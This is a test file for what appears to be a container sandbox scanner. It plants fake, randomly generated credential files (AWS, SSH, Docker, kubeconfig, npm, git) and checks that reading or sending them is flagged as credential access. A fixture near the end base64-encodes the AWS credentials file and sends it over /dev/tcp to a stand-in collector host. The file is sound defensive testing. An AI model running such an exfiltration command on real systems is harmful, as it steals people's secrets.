/**
 * Decoy credential files: what is planted (realistic formats, random values marked fake), where
 * (the home of the image's user, found through the image's links inside its own root), what is
 * left alone (a file the image has, a link in the way), and, under runc as root, that the
 * container sees them as its user's files, that they are not reported as dropped, that reading
 * one is a medium credential-access finding and sending one over HTTP a high one.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import {
  existsSync,
  mkdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, it, test } from 'node:test';
import { writeOciLayout } from '../src/fixtures/layouts.js';
import { openSource } from '../src/image/target.js';
import {
  decoyFiles,
  decoyPaths,
  decoySecrets,
  plantDecoys,
  withoutDecoys,
  type DecoyFileSpec,
} from '../src/sandbox/runtime/decoys.js';
import { collectChanges, dispose, prepareRun, runPrepared } from '../src/sandbox/runtime/index.js';
import type { ProcessSpec } from '../src/sandbox/runtime/types.js';
import { SANDBOX_SKIP, onDebian, userFiles } from './sandbox-runtime-images.js';
import { runCli } from './support/cli.js';
import { tempDir } from './support/tmp.js';

const byRel = (specs: DecoyFileSpec[], rel: string): DecoyFileSpec => {
  const spec = specs.find((s) => s.rel === rel);
  assert.ok(spec, `a ${rel} decoy`);
  return spec;
};

/** Reads the SSH wire strings of an openssh-key-v1 blob. */
function sshFields(buf: Buffer, from: number, count: number): { fields: Buffer[]; end: number } {
  const fields: Buffer[] = [];
  let off = from;
  for (let i = 0; i < count; i++) {
    const len = buf.readUInt32BE(off);
    fields.push(buf.subarray(off + 4, off + 4 + len));
    off += 4 + len;
  }
  return { fields, end: off };
}

describe('decoy credential files: contents', () => {
  const specs = decoyFiles();

  it('plants the usual credential files, each secret in its file, random per run', () => {
    assert.deepEqual(
      specs.map((s) => s.rel).sort(),
      [
        '.aws/credentials',
        '.docker/config.json',
        '.git-credentials',
        '.kube/config',
        '.npmrc',
        '.ssh/id_rsa',
      ],
      'the six files',
    );
    for (const spec of specs) {
      assert.ok(spec.secrets.length > 0, `${spec.rel} has secrets`);
      for (const s of spec.secrets) {
        assert.ok(s.value.length >= 20, `${spec.rel} ${s.name} is long enough to be unique`);
        const decoded = [...spec.content.matchAll(/"auth": "([^"]+)"/g)].map((m) =>
          Buffer.from(m[1] ?? '', 'base64').toString(),
        );
        assert.ok(
          spec.content.includes(s.value) || decoded.some((d) => d.includes(s.value)),
          `${spec.rel} holds its ${s.name}`,
        );
      }
    }
    const again = decoyFiles();
    for (const spec of specs) {
      const other = byRel(again, spec.rel);
      assert.notEqual(other.secrets[0]?.value, spec.secrets[0]?.value, `${spec.rel} differs per run`);
    }
  });

  it('marks the values fake where the format has a prefix', () => {
    const aws = byRel(specs, '.aws/credentials').content;
    assert.match(
      aws,
      /^\[default\]\naws_access_key_id = AKIAFAKE[A-Z2-7]{12}\naws_secret_access_key = \S{40}\n$/,
    );
    assert.match(
      byRel(specs, '.git-credentials').content,
      /^https:\/\/deploy:ghp_FAKE[A-Za-z0-9]{32}@github\.com\n$/,
    );
    assert.match(
      byRel(specs, '.npmrc').content,
      /^\/\/registry\.npmjs\.org\/:_authToken=npm_FAKE[A-Za-z0-9]{32}\n$/,
    );
    const docker = JSON.parse(byRel(specs, '.docker/config.json').content) as {
      auths: Record<string, { auth: string }>;
    };
    const auth = Buffer.from(docker.auths['https://index.docker.io/v1/']?.auth ?? '', 'base64').toString();
    assert.match(auth, /^deploy:dckr_pat_FAKE[\w-]{23}$/, 'docker auth is user:token in base64');
  });

  it('writes an SSH key with the structure ssh-keygen gives it', () => {
    const text = byRel(specs, '.ssh/id_rsa').content;
    const lines = text.trimEnd().split('\n');
    assert.equal(lines[0], '-----BEGIN OPENSSH PRIVATE KEY-----', 'PEM header');
    assert.equal(lines.at(-1), '-----END OPENSSH PRIVATE KEY-----', 'PEM footer');
    assert.ok(
      lines.slice(1, -2).every((l) => l.length === 70),
      'base64 body in 70-column lines',
    );
    const blob = Buffer.from(lines.slice(1, -1).join(''), 'base64');
    assert.equal(blob.subarray(0, 15).toString('latin1'), 'openssh-key-v1\0', 'magic');
    const head = sshFields(blob, 15, 3);
    assert.deepEqual(head.fields.map(String), ['none', 'none', ''], 'unencrypted');
    assert.equal(blob.readUInt32BE(head.end), 1, 'one key');
    const keys = sshFields(blob, head.end + 4, 2);
    assert.equal(keys.end, blob.length, 'nothing after the private section');
    const [pub, priv] = keys.fields as [Buffer, Buffer];
    assert.equal(sshFields(pub, 0, 1).fields[0]?.toString(), 'ssh-rsa', 'RSA public key');
    assert.equal(priv.length % 8, 0, 'private section padded to the block size');
    assert.ok(priv.subarray(0, 4).equals(priv.subarray(4, 8)), 'check ints match');
    const parts = sshFields(priv, 8, 8).fields;
    assert.equal(parts[0]?.toString(), 'ssh-rsa', 'private key type');
    assert.equal(parts[1]?.length, 257, '2048-bit modulus');
    assert.ok(parts[1]?.equals(sshFields(pub, 0, 3).fields[2]!), 'the same modulus in both halves');
    assert.match(parts[7]?.toString() ?? '', /^deploy@build-[0-9a-f]{6}$/, 'comment');
  });

  it('writes a kubeconfig whose token is a service-account JWT and whose CA stops kubectl', () => {
    const text = byRel(specs, '.kube/config').content;
    const token = /\n {4}token: (\S+)\n/.exec(text)?.[1] ?? '';
    const [header, payload, sig] = token.split('.');
    assert.equal(JSON.parse(Buffer.from(header ?? '', 'base64url').toString()).alg, 'RS256', 'JWT header');
    assert.equal(
      JSON.parse(Buffer.from(payload ?? '', 'base64url').toString()).sub,
      'system:serviceaccount:ci:deployer',
      'JWT payload',
    );
    assert.ok((sig ?? '').length > 300, 'a signature');
    assert.ok(!/insecure-skip-tls-verify/.test(text), 'TLS is verified (against a CA that does not parse)');
    const ca = /certificate-authority-data: (\S+)/.exec(text)?.[1] ?? '';
    assert.match(Buffer.from(ca, 'base64').toString(), /^-----BEGIN CERTIFICATE-----\n/, 'a PEM CA');
  });
});

describe('decoy credential files: planting', () => {
  const idMap = { hostUid: process.getuid?.() ?? 0, hostGid: process.getgid?.() ?? 0, size: 65_536 };
  const spec = (home: string, uid = 0): ProcessSpec => ({
    args: ['/bin/sh'],
    env: ['PATH=/bin', `HOME=${home}`],
    cwd: '/',
    uid,
    gid: uid,
    additionalGids: [],
  });
  const rootfs = () => {
    const dir = tempDir('shipshape-decoys-');
    mkdirSync(join(dir, 'root'), { mode: 0o700 });
    mkdirSync(join(dir, 'etc'));
    return dir;
  };

  it("plants in root's home, private files, and keeps the home's times", () => {
    const dir = rootfs();
    utimesSync(join(dir, 'root'), 1000, 1000);
    const specs = decoyFiles();
    const { planted, warnings } = plantDecoys(dir, spec('/root'), specs, idMap);
    assert.deepEqual(warnings, [], 'nothing skipped');
    assert.deepEqual(decoyPaths(planted).sort(), specs.map((s) => `/root/${s.rel}`).sort(), 'every file');
    for (const d of planted) {
      const abs = join(dir, d.realPath);
      const st = statSync(abs);
      assert.equal(st.mode & 0o777, 0o600, `${d.path} is 0600`);
      assert.equal(st.uid, idMap.hostUid, `${d.path} belongs to the user`);
      assert.ok(st.mtimeMs < Date.now() - 19 * 86_400_000, `${d.path} looks weeks old`);
      assert.equal(createHash('sha256').update(readFileSync(abs)).digest('hex'), d.sha256, 'sha256');
    }
    assert.equal(statSync(join(dir, 'root/.ssh')).mode & 0o777, 0o700, '~/.ssh is 0700');
    assert.equal(statSync(join(dir, 'root')).mtimeMs, 1_000_000, "the home's mtime is the image's");
    const secrets = decoySecrets(planted);
    assert.ok(
      secrets.some((s) => s.path === '/root/.aws/credentials' && s.name === 'aws_secret_access_key'),
      'secrets are named after their file',
    );
  });

  it('leaves a file the image has alone, and does not follow a link in the way', () => {
    const dir = rootfs();
    writeFileSync(join(dir, 'root/.npmrc'), 'registry=https://npm.internal/\n');
    symlinkSync('/etc', join(dir, 'root/.ssh'));
    const { planted, warnings } = plantDecoys(dir, spec('/root'), decoyFiles(), idMap);
    assert.equal(readFileSync(join(dir, 'root/.npmrc'), 'utf8'), 'registry=https://npm.internal/\n', 'kept');
    assert.ok(!existsSync(join(dir, 'etc/id_rsa')), 'nothing written through the link');
    assert.ok(
      warnings.some(
        (w) => w.includes('/root/.npmrc') && w.includes('the image has /root/.npmrc: left alone'),
      ),
      `says so: ${warnings.join(' | ')}`,
    );
    assert.ok(
      warnings.some((w) => w.includes('/root/.ssh is not a directory')),
      'the link is named',
    );
    assert.equal(planted.length, 4, 'the other four planted');
  });

  it("finds the home through the image's own links, inside its root", () => {
    const dir = rootfs();
    mkdirSync(join(dir, 'srv/homes/app'), { recursive: true });
    // Absolute, as images have them: it means the image's /srv, never the host's.
    symlinkSync('/srv/homes', join(dir, 'home'));
    const { planted } = plantDecoys(dir, spec('/home/app'), decoyFiles(), idMap);
    const aws = planted.find((d) => d.path === '/home/app/.aws/credentials');
    assert.equal(aws?.realPath, '/srv/homes/app/.aws/credentials', 'planted where the link leads');
    assert.ok(existsSync(join(dir, 'srv/homes/app/.aws/credentials')), 'inside the root');
    assert.ok(decoyPaths(planted).includes('/srv/homes/app/.aws/credentials'), 'both paths are decoys');
  });

  it('plants nothing without a home in the image', () => {
    const dir = rootfs();
    const none = plantDecoys(dir, spec('/nonexistent', 65_534), decoyFiles(), idMap);
    assert.deepEqual(none.planted, [], 'nothing planted');
    assert.match(none.warnings.join(), /home \/nonexistent is not a directory in the image/, 'says why');
  });

  it('drops planted files from the dropped list unless the container changed them', () => {
    const planted = [
      { path: '/root/.npmrc', realPath: '/root/.npmrc', size: 1, sha256: 'a', secrets: [] },
      {
        path: '/root/.aws/credentials',
        realPath: '/root/.aws/credentials',
        size: 1,
        sha256: 'b',
        secrets: [],
      },
    ];
    const dropped = [
      { path: '/root/.npmrc', size: 1, sha256: 'a' },
      { path: '/root/.aws/credentials', size: 9, sha256: 'changed' },
      { path: '/tmp/x', size: 1, sha256: 'c' },
    ];
    assert.deepEqual(
      withoutDecoys(dropped, planted).map((d) => d.path),
      ['/root/.aws/credentials', '/tmp/x'],
      'a rewritten decoy is the container’s file',
    );
  });
});

const SHOW = `#!/bin/sh
for f in .aws/credentials .ssh/id_rsa .docker/config.json .kube/config .git-credentials .npmrc; do
  stat -c '%u:%g %a %n' "$HOME/$f"
done
stat -c 'dir %u:%g %a %Y %n' "$HOME" "$HOME/.ssh"
head -n 1 "$HOME/.aws/credentials"
`;

async function prepared(target: string) {
  const source = openSource(target);
  const image = await source.resolve();
  const run = await prepareRun(source, image, { decoyFiles: decoyFiles() });
  try {
    const result = await runPrepared(run, { timeoutMs: 20_000 });
    const changes = await collectChanges(run.upperDir);
    return { result, changes, run };
  } finally {
    assert.deepEqual(await dispose(run), [], 'dispose removed everything');
    await source.close();
  }
}

test(
  'sandbox: decoys sit in the home of the image user, as that user’s files, and an image file stays',
  { skip: SANDBOX_SKIP, timeout: 300_000 },
  async () => {
    const dir = tempDir('shipshape-decoys-img-');
    const show = [
      { path: 'opt/', type: 'dir' as const },
      { path: 'opt/show.sh', mode: 0o755, content: SHOW },
    ];
    await writeOciLayout(dir, [
      { ref: 'root', image: await onDebian([show], { Cmd: ['/opt/show.sh'] }) },
      {
        ref: 'app',
        image: await onDebian(
          [
            [
              ...show,
              ...(await userFiles('app', 1000, '/home/app')),
              { path: 'home/app/.aws/', type: 'dir', mode: 0o700, uid: 1000, gid: 1000 },
              {
                path: 'home/app/.aws/credentials',
                mode: 0o600,
                uid: 1000,
                gid: 1000,
                content: "# the image's own\n",
              },
            ],
          ],
          { Cmd: ['/opt/show.sh'], User: 'app' },
        ),
      },
    ]);

    const root = await prepared(`oci:${dir}:root`);
    assert.equal(root.result.exitCode, 0, `stat saw every decoy: ${root.result.stderr}`);
    for (const f of [
      '.aws/credentials',
      '.ssh/id_rsa',
      '.docker/config.json',
      '.kube/config',
      '.git-credentials',
      '.npmrc',
    ])
      assert.ok(root.result.stdout.includes(`0:0 600 /root/${f}\n`), `/root/${f}: ${root.result.stdout}`);
    // (Its times are the unpack's, so only the unit test above can tell they were kept.)
    assert.match(root.result.stdout, /^dir 0:0 700 \d+ \/root$/m, "/root's owner and mode unchanged");
    assert.match(root.result.stdout, /^dir 0:0 700 \d+ \/root\/\.ssh$/m, '~/.ssh made 0700 for root');
    assert.ok(root.result.stdout.includes('[default]\n'), 'the AWS file reads as one');
    assert.ok(
      root.changes.dropped.some((d) => d.path === '/root/.aws/credentials'),
      'the writable layer holds the decoys',
    );
    assert.deepEqual(
      withoutDecoys(root.changes.dropped, root.run.decoys),
      [],
      'and without them the container dropped nothing',
    );

    const app = await prepared(`oci:${dir}:app`);
    assert.equal(app.result.exitCode, 0, app.result.stderr);
    assert.ok(app.result.stdout.includes('1000:1000 600 /home/app/.ssh/id_rsa\n'), app.result.stdout);
    assert.ok(app.result.stdout.includes('1000:1000 600 /home/app/.npmrc\n'), 'owned by app');
    assert.ok(app.result.stdout.includes("# the image's own\n"), "the image's credentials file is untouched");
    assert.ok(
      !app.run.decoys.some((d) => d.path === '/home/app/.aws/credentials'),
      'and not counted as a decoy',
    );
    assert.ok(
      app.run.warnings.some((w) => w.includes('the image has /home/app/.aws/credentials: left alone')),
      `says so: ${app.run.warnings.join(' | ')}`,
    );
  },
);

interface Report {
  behavior: {
    exitCode: number | null;
    findings: { category: string; rule: string; severity: string; evidence: string }[];
    dropped: { path: string }[];
    decoys?: { env: string[]; files: string[] };
  };
}

const CAT = `#!/bin/sh
cat ~/.aws/credentials > /dev/null
echo done > /tmp/note
`;

const EXFIL = `#!/bin/bash
# Sends the planted AWS file, base64'd in a URL, to the fake internet.
d=$(base64 -w0 ~/.aws/credentials)
exec 3<>/dev/tcp/collector.example-exfil.test/80
printf 'GET /u?d=%s HTTP/1.1\\r\\nHost: collector.example-exfil.test\\r\\nConnection: close\\r\\n\\r\\n' "$d" >&3
timeout 3 cat <&3 > /dev/null || true
`;

test(
  'sandbox CLI: reading a decoy file is credential-access (medium); sending its secret is high',
  { skip: SANDBOX_SKIP, timeout: 300_000 },
  async () => {
    const dir = tempDir('shipshape-decoys-cli-');
    const layout = join(dir, 'oci');
    const script = (content: string) => [
      { path: 'opt/', type: 'dir' as const },
      { path: 'opt/run.sh', mode: 0o755, content },
    ];
    await writeOciLayout(layout, [
      { ref: 'cat', image: await onDebian([script(CAT)], { Entrypoint: ['/opt/run.sh'] }) },
      { ref: 'exfil', image: await onDebian([script(EXFIL)], { Entrypoint: ['/opt/run.sh'] }) },
    ]);
    const env = { SHIPSHAPE_DB: join(dir, 'db.sqlite'), SHIPSHAPE_SANDBOX_RUNS: join(dir, 'runs') };
    const sandbox = async (ref: string) => {
      const r = await runCli(
        ['sandbox', '--format', 'json', '--timeout', '20', `oci:${layout}:${ref}`],
        env,
        300_000,
      );
      return { code: r.code, stderr: r.stderr, b: (JSON.parse(r.stdout) as Report).behavior };
    };

    const cat = await sandbox('cat');
    assert.equal(cat.code, 0, `a medium finding does not fail the default gate: ${cat.stderr}`);
    assert.equal(cat.b.exitCode, 0, 'the script ran through');
    assert.deepEqual(
      cat.b.findings.map((f) => [f.category, f.rule, f.severity, f.evidence]),
      [['credential-access', 'cred-decoy-read', 'medium', 'read /root/.aws/credentials by cat']],
      'one finding: the decoy read',
    );
    assert.deepEqual(
      cat.b.dropped.map((d) => d.path),
      ['/tmp/note'],
      'what the container wrote is listed; the planted decoys are not',
    );
    assert.ok(cat.b.decoys?.files.includes('/root/.aws/credentials'), 'the report lists the decoy files');
    assert.ok(cat.b.decoys?.env.includes('AWS_SECRET_ACCESS_KEY'), 'and the decoy variables');

    const exfil = await sandbox('exfil');
    assert.equal(exfil.code, 1, `a stolen credential fails the default gate: ${exfil.stderr}`);
    const sent = exfil.b.findings.filter((f) => f.rule === 'cred-decoy-sent');
    assert.ok(
      sent.some(
        (f) =>
          f.severity === 'high' &&
          f.category === 'credential-access' &&
          f.evidence.startsWith('/root/.aws/credentials (') &&
          f.evidence.includes('collector.example-exfil.test'),
      ),
      `the secret is tied to its file and where it went: ${JSON.stringify(exfil.b.findings)}`,
    );
  },
);
